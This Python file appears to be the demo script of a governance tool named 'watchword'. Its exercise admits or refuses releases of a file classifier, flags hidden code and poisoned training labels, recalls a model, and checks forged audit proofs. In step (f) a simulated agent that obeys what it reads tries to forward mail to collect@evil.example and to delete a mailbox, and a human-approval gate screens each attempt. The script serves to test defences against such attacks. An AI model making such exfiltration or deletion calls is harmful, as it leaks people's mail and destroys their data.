"""The exercise, step by step. Each step is a function; each prints the commands it runs and what they said.

(a) a charter in force with four of five, (b) a real model admitted, (c) hidden code refused, (d) manipulated data
refused, and a member's own rules, (e) failure under attack, measured by two members, (f) human command of an agent, (g)
a recall that closes the gates, (h) an auditor
with one file, and three forgeries.
"""

from __future__ import annotations

import json
import shlex
import shutil
import tempfile
import time
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass
from hashlib import sha256
from importlib.resources import as_file, files
from pathlib import Path

from watchword.demo import deliveries, forgeries
from watchword.demo.agent import MAILBOX, SERVER, Agent, done, edited
from watchword.demo.parties import NotAsExpected, Party, Shown
from watchword.errors import WatchwordError

MEMBERS = ("ALFA", "BRAVO", "CHARLIE", "DELTA", "ECHO")
SUPPLIER = "AQUILA"
GATES = ("ALFA", "BRAVO", "CHARLIE")
COLUMNS = ("--key", "id", "--label", "label", "--annotator", "annotator", "--source", "source")
SAID = "Look at message m-7: label its attachment, and quarantine the message if it is an attack."
TOLD_LINES = 3
"""Of what an agent is told, shown. Origin: verdict, and two reasons at most."""
RECALLED = "DELTA-2027-1"
"""What people call the recall by."""
GATE_S_MAX = 60
"""How long the exercise waits for a gate to open or close, in seconds. Origin: far above what is seen, under 5."""


@dataclass(frozen=True)
class Exercise:
    """The parties, and the folder of files that pass between them: a share, a stick, a mailbox. Paths are below it."""

    folder: Path
    shown: Shown
    members: dict[str, Party]
    supplier: Party
    auditor: Party

    def exchange(self) -> None:
        """Three rounds, all members at once: write what is new; cosign what the others wrote; learn who cosigned."""
        for _ in range(3):
            started = [(member, member.start("ledger", "exchange", "post")) for member in self.members.values()]
            for member, process in started:
                member.ends(process, ("watchword", "ledger", "exchange", "post"), show=False)
        self.shown.line("  (everyone exchanges files: statements, notices, heads and cosignatures)")


def run(folder: Path | None, *, keep: bool, line: Callable[[str], None]) -> Path | None:
    """Play the exercise.

    Args:
        folder: where it plays, new or empty; None makes a temporary one.
        keep: leave the folder afterwards.
        line: where to print.

    Returns:
        The folder, when it was kept.

    Raises:
        NotAsExpected: a command ended otherwise than it should.
    """
    if folder is not None and folder.exists() and any(folder.iterdir()):
        raise WatchwordError(f"{folder}: not empty", "the exercise needs a folder of its own")
    stage = folder or Path(tempfile.mkdtemp(prefix="watchword-demo-"))
    try:
        shown = Shown(line)
        exercise = _set_up(stage, shown)
        steps = (
            _charter, _admitted, _hidden_code, _manipulated_data, _attacked, _human_command, _recall, _auditor,
        )  # fmt: skip
        for step in steps:
            step(exercise)
        line(
            f"\nthe exercise took {time.monotonic() - shown.started:.0f} s; every line above is what a command printed"
        )
        return stage if keep or folder is not None else None
    finally:
        if folder is None and not keep:
            shutil.rmtree(stage, ignore_errors=True)


def _set_up(stage: Path, shown: Shown) -> Exercise:
    stage = stage.resolve()
    for name in ("post", "deliveries", *(name.lower() for name in (*MEMBERS, SUPPLIER))):
        (stage / name).mkdir(parents=True)
    sources = (
        "mail-triage.toml", "mandate.toml", "claim.toml", "no-shared-mail.toml", "watched-mail.toml", "padding.toml",
        "gate.py", "patrol-mail.toml",
    )  # fmt: skip
    for source in sources:
        with as_file(files("watchword.demo").joinpath("files", source)) as path:
            shutil.copy(path, stage / source)
    members = {name: Party(name, stage, shown) for name in MEMBERS}
    return Exercise(stage, shown, members, Party(SUPPLIER, stage, shown), Party("auditor", stage, shown))


def _charter(play: Exercise) -> None:
    play.shown.step("a", "five members, one charter, in force when four ratify")
    supplier = ("--supplier", "--contact", "psirt@aquila.example")
    for party in (*play.members.values(), play.supplier):
        extra = supplier if party is play.supplier else ()
        party.runs("init", party.name, "--unencrypted", *extra, show=party.name in ("ALFA", SUPPLIER))
    play.shown.line("  (BRAVO, CHARLIE, DELTA and ECHO likewise; each keeps its keys, and sends its enrolment)")
    enrolled = [word for name in MEMBERS for word in ("--member", f"{name.lower()}/.watchword/enrolment.json")]
    play.members["ALFA"].runs(
        "charter", "draft", "--alliance", "Five Ports", *enrolled,
        "--supplier", f"{SUPPLIER.lower()}/.watchword/enrolment.json", "--faulty", "1",
    )  # fmt: skip
    for name in MEMBERS[:4]:
        play.members[name].runs("charter", "ratify", "charter.json", show=name == "ALFA")
    play.shown.line("  (BRAVO, CHARLIE and DELTA ratify the same digest; ECHO has not)")
    ratifications = [f"{name}.ratification.json" for name in MEMBERS[:4]]
    for name, member in play.members.items():
        member.runs(
            "charter", "adopt", "charter.json", *ratifications, "--secret", "alliance.secret", show=name == "ECHO"
        )


def _admitted(play: Exercise) -> None:
    play.shown.step("b", "a supplier delivers a real classifier, two members inspect it: admitted")
    deliveries.first_release(play.folder / _delivery("1.0.3"))
    for number in (1, 2, 3):
        deliveries.labels(play.folder / f"labels-{number}.csv", manipulated=number == 3)
    alfa, bravo, charlie = (play.members[name] for name in GATES)
    _claim(play, "1.0.3", show=True)
    alfa.runs("assure", _delivery("1.0.3"), *_named("1.0.3"), "--report", "alfa/report.html")
    charlie.runs("inspect", _delivery("1.0.3"), "--record", *_named("1.0.3"))
    bravo.runs("data", "diff", "labels-1.csv", "labels-2.csv", *COLUMNS, *_of("1.0.3"))
    play.exchange()
    alfa.runs("admit", "magika 1.0.3", "--use", "mail-triage.toml")


def _hidden_code(play: Exercise) -> None:
    play.shown.step("c", "hidden code: release 2.0.0 would run a command when it is loaded")
    deliveries.second_release(play.folder / _delivery("2.0.0"), play.folder / _delivery("1.0.3"))
    _claim(play, "2.0.0", show=False)
    alfa, _, charlie = (play.members[name] for name in GATES)
    alfa.runs("assure", _delivery("2.0.0"), *_named("2.0.0"), "--report", "alfa/report.html", exits=1)
    charlie.runs("inspect", _delivery("2.0.0"), "--record", *_named("2.0.0"), exits=1, show=False)
    play.exchange()
    alfa.runs("admit", "magika 2.0.0", "--use", "mail-triage.toml", exits=1)


def _manipulated_data(play: Exercise) -> None:
    play.shown.step("d", "manipulated data: release 1.1.0 was retrained on labels of which 12 changed")
    deliveries.third_release(play.folder / _delivery("1.1.0"), play.folder / _delivery("1.0.3"))
    _claim(play, "1.1.0", show=False)
    alfa, bravo, charlie = (play.members[name] for name in GATES)
    alfa.runs("assure", _delivery("1.1.0"), *_named("1.1.0"), "--report", "alfa/report.html", show=False)
    charlie.runs("inspect", _delivery("1.1.0"), "--record", *_named("1.1.0"), show=False)
    bravo.runs("data", "diff", "labels-2.csv", "labels-3.csv", *COLUMNS, "--reveal", *_of("1.1.0"), exits=1)
    for number in (1, 2):
        deliveries.mails(play.folder / f"mails-{number}.csv", planted=number == 2)
    screen = ("data", "screen", "mails-2.csv", "--key", "id", "--label", "label", "--no-power")
    bravo.ends(bravo.start(*screen), ("watchword", *screen), exits=1, hide="listed ")
    proof = ("data", "diff", "mails-1.csv", "mails-2.csv", "--key", "id", "--label", "label")
    bravo.ends(bravo.start(*proof), ("watchword", *proof), exits=1, hide="changed-label ")
    play.exchange()
    alfa.runs("admit", "magika 1.1.0", "--use", "mail-triage.toml", exits=1)
    _own_rules(play)


def _own_rules(play: Exercise) -> None:
    """DELTA sees what a caveat would cost everybody, and signs one that costs nobody; no red line is waived."""
    delta = play.members["DELTA"]
    delta.runs("caveat", "add", "no-shared-mail.toml", exits=1)
    delta.runs("caveat", "add", "watched-mail.toml", "--yes")
    play.members["ALFA"].runs(
        "waiver", "add", "magika 2.0.0", "--requirement", "hidden-code", "--use", "mail-triage.toml",
        "--owner", "duty officer", "--reason", "the port is busy", "--expires", "2040-01-01T00:00:00Z",
        exits=2, show=False,
    )  # fmt: skip
    play.shown.line("  (ALFA asks to waive hidden-code for release 2.0.0, and is told that a red line has no waiver)")


def _attacked(play: Exercise) -> None:
    play.shown.step("e", "failure under attack: measured by BRAVO, confirmed by CHARLIE, and a red line is crossed")
    deliveries.programs(play.folder / "programs")
    bravo, charlie, delta = (play.members[name] for name in ("BRAVO", "CHARLIE", "DELTA"))
    what = ("--subject", _delivery("1.0.3"), "--data", "programs", "--harness", "gate.py")
    bravo.runs("evaluate", "commit", "padding.toml", *what, *_named("1.0.3"), "--draw-from", "DELTA")
    delta.runs("admit", "magika 1.0.3", "--use", "patrol-mail.toml", exits=1, lines=6)
    play.exchange()
    bravo.runs("evaluate", "run", _own(bravo, "plan")[-1], *what, "--page", "bravo/evaluation.html", exits=1)
    play.exchange()
    charlie.runs("evaluate", "replicate", _own(bravo, "evaluation")[-1], *what)
    delta.runs("admit", "magika 1.0.3", "--use", "patrol-mail.toml", exits=1, lines=6)


def _human_command(play: Exercise) -> None:
    play.shown.step("f", "human command: an agent obeys what it reads, and asks the gate for every tool it calls")
    alfa = play.members["ALFA"]
    drafted = ("gate", "cards", "suggest", "--server", SERVER, "--output", "cards.json", "--")
    shown = ("watchword", *drafted, "python", *MAILBOX[1:])
    alfa.ends(alfa.start(*drafted, *MAILBOX), shown)
    cards = play.folder / "cards.json"
    cards.write_text(json.dumps(edited(json.loads(cards.read_text("utf-8"))), indent=1), "utf-8")
    play.shown.line("  (a person who knows the mailbox edits the cards: what only reads, what is an address)")
    for name in GATES:
        member = play.members[name]
        if member is not alfa:
            member.runs("admit", "magika 1.0.3", "--use", "mail-triage.toml", show=False)
        decision = _own(member, "decision")[0]
        member.runs("gate", "cards", "sign", "cards.json", show=member is alfa)
        member.runs("gate", "mandate", "mandate.toml", "--decision", decision, show=member is alfa)
    play.exchange()
    (play.folder / "said.txt").write_text(SAID + "\n", "utf-8")
    with Agent(alfa, "magika 1.0.3", "alfa.done", "said.txt") as agent:
        play.shown.line(f"  ALFA $ {shlex.join(agent.told)}")
        play.shown.line(f"    the person says: {SAID}")
        _calls(play, agent, "read_message", message="m-7")
        _calls(play, agent, "forward", message="m-1", to="collect@evil.example")
        _calls(play, agent, "label_attachment", message="m-7", type="pdf")
        _calls(play, agent, "delete_mailbox", mailbox="registry")
        hold = _held_for_two(play, agent)
        alfa.runs("gate", "stop", "magika 1.0.3", "--reason", "the watch changes")
        _calls(play, agent, "label_attachment", message="m-1", type="pdf")
    play.shown.line("  (what the mailbox itself wrote down as done:)")
    for tool, args in done(play.folder, "alfa.done"):
        play.shown.line(f"    {tool} {' '.join(f'{name}={value}' for name, value in args.items())}")
    play.exchange()
    alfa.runs("trace", hold, lines=16)
    for name in GATES:
        member = play.members[name]
        member.runs("gate", "mandate", "mandate.toml", "--decision", _own(member, "decision")[0], show=False)
    play.shown.line("  (the stop reached the others too; the new watch of each signs a mandate of its own)")
    play.exchange()


def _held_for_two(play: Exercise, agent: Agent) -> str:
    """Held, approved by people of two members, and let go when the agent asks the same again: once. The hold's id."""
    alfa, call = play.members["ALFA"], {"message": "m-7", "sender": "port@echo.example"}
    hold = _calls(play, agent, "quarantine", **call).split()[1]
    alfa.runs("gate", "request", hold, "--output", "hold.json")
    for name in ("BRAVO", "CHARLIE"):
        approval = f"{name}.approval.json"
        member = play.members[name]
        member.runs("gate", "approve", "hold.json", "--confirm", "m-7", "--output", approval, show=name == "BRAVO")
        alfa.runs("gate", "take", approval)
        _calls(play, agent, "quarantine", **call)
    again = agent.call("quarantine", **call)
    if not again.startswith("HELD"):
        raise NotAsExpected("ALFA: the approvals let the same action go twice", again)
    play.shown.line("  (asked once more, it is a new action, and waits for people anew)")
    return hold


def _calls(play: Exercise, agent: Agent, tool: str, **args: str) -> str:
    """The agent calls a tool; what it is told, of which the first lines are shown."""
    told = agent.call(tool, **args)
    play.shown.line(f"  agent > {tool} {' '.join(f'{name}={value}' for name, value in args.items())}")
    for line in told.splitlines()[:TOLD_LINES]:
        play.shown.line(f"    {line}")
    return told


def _recall(play: Exercise) -> None:
    play.shown.step("g", "DELTA recalls the model in release 1.0.3; three gates are at work, cut off, and must close")
    with ExitStack() as stack:
        agents = {
            name: stack.enter_context(Agent(play.members[name], "magika 1.0.3", f"{name.lower()}.work"))
            for name in GATES
        }
        for name, agent in agents.items():
            told = agent.call("label_attachment", message="m-1", type="pdf")
            if told != "done":
                raise NotAsExpected(f"{name}: its agent was never permitted", told)
        play.shown.line("  (an agent at each of ALFA, BRAVO and CHARLIE is permitted its actions)")
        found = time.time()
        # By the digest of one file: whatever release has it in its bill of materials is reached.
        model = sha256((play.folder / _delivery("1.0.3") / "model.onnx").read_bytes()).hexdigest()
        play.members["DELTA"].runs(
            "notice", "recall", f"component:sha256:{model}", "--reason", "comment padding hides executables from it",
            "--action", "stop using it", "--directive", RECALLED, "--severity", "emergency",
            "--deadline", time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(found)), "--output", "recall.json",
        )  # fmt: skip
        last = 0.0
        for name, agent in agents.items():
            # One file, carried by hand to each of them: no network and no exchange.
            play.members[name].runs("notice", "take", "recall.json", show=name == "ALFA")
            why = _closed(name, agent)
            last = time.time() - found
            play.shown.line(f"  {name}'s gate closed after {last:.1f} s: {why}")
        play.shown.line(f"  from the finding to the last gate closed: {last:.1f} s")
    for name in ("ALFA", "BRAVO", "CHARLIE"):
        done = () if name == "CHARLIE" else ("--done",)
        play.members[name].runs("recall", "answer", RECALLED, *done, exits=0 if done else 1, show=name == "ALFA")
    play.shown.line("  (BRAVO is done too, CHARLIE says only that it is hit; DELTA and ECHO say nothing)")
    play.exchange()
    play.members["ALFA"].runs("recall", "status", RECALLED, exits=1)
    play.members["ALFA"].runs("admit", "magika 1.0.3", "--use", "mail-triage.toml", exits=1, lines=6)


def _closed(name: str, agent: Agent) -> str:
    """Wait until the gate denies; its first reason."""
    until = time.monotonic() + GATE_S_MAX
    while (told := agent.call("label_attachment", message="m-1", type="pdf")) == "done":
        if time.monotonic() > until:
            raise NotAsExpected(f"{name}: its gate did not close", told)
        time.sleep(0.05)
    return told.splitlines()[1].strip()


def _auditor(play: Exercise) -> None:
    play.shown.step("h", "an auditor with the charter, one file and verify.py re-checks all of it, offline")
    alfa = play.members["ALFA"]
    play.exchange()
    alfa.runs("ledger", "prove", *_own(alfa, "decision"), "--record", "--output", "proof.json")
    shutil.copy(alfa.home / "charter.json", play.folder / "charter.in-force.json")
    shutil.copy(verifier(), play.folder / "verify.py")
    _verifies(play.auditor, "proof.json", exits=0)
    for name, forge in forgeries.ALL.items():
        forge(play.folder / "proof.json", play.folder / f"{name}.json")
        _verifies(play.auditor, f"{name}.json", exits=1)


def verifier() -> Path:
    """``verify.py``: beside the package in a wheel, at the root in a checkout."""
    package = Path(str(files("watchword")))
    for path in (package / "verify.py", package.parents[1] / "verify.py"):
        if path.is_file():
            return path
    raise WatchwordError("verify.py is not there", "it comes with the source and in the wheel")


def _verifies(auditor: Party, file: str, exits: int) -> None:
    # -I: nothing but the standard library can be imported.
    process = auditor.start_python("-I", "verify.py", "charter.in-force.json", file)
    names = "component:|dataset:|key:|model:|package:|release:|statement:|supplier:"
    long = f"  (head|met |clear|does not apply|{names})|permitted"
    auditor.ends(process, ("python", "-I", "verify.py", "charter.in-force.json", file), exits, hide=long)


def _delivery(version: str) -> str:
    return f"deliveries/magika-{version}"


def _named(version: str) -> tuple[str, ...]:
    return ("--system", "magika", "--release", version)


def _of(version: str) -> tuple[str, ...]:
    return ("--record", "--of", _delivery(version), *_named(version), "--dataset", "training-labels")


def _claim(play: Exercise, version: str, *, show: bool) -> None:
    """The supplier signs its claim; BRAVO publishes it."""
    claim = f"claim-{version}"
    text = (play.folder / "claim.toml").read_text("utf-8").replace("VERSION", version)
    (play.folder / f"{claim}.toml").write_text(text, "utf-8")
    play.supplier.runs(
        "statement", "sign", "claim", f"{claim}.toml", "--of", _delivery(version), *_named(version),
        "--output", f"{claim}.json", show=show,
    )  # fmt: skip
    play.members["BRAVO"].runs("ledger", "append", f"{claim}.json", show=show)


def _own(member: Party, kind: str, field: str = "where") -> list[str]:
    """The member's own statements of *kind*, oldest first, by locator (or another field of the listing)."""
    words = ("statement", "list", "--kind", kind, "--by", member.name, "--format", "json")
    return [str(one[field]) for one in json.loads(member.runs(*words, show=False))["statements"]]
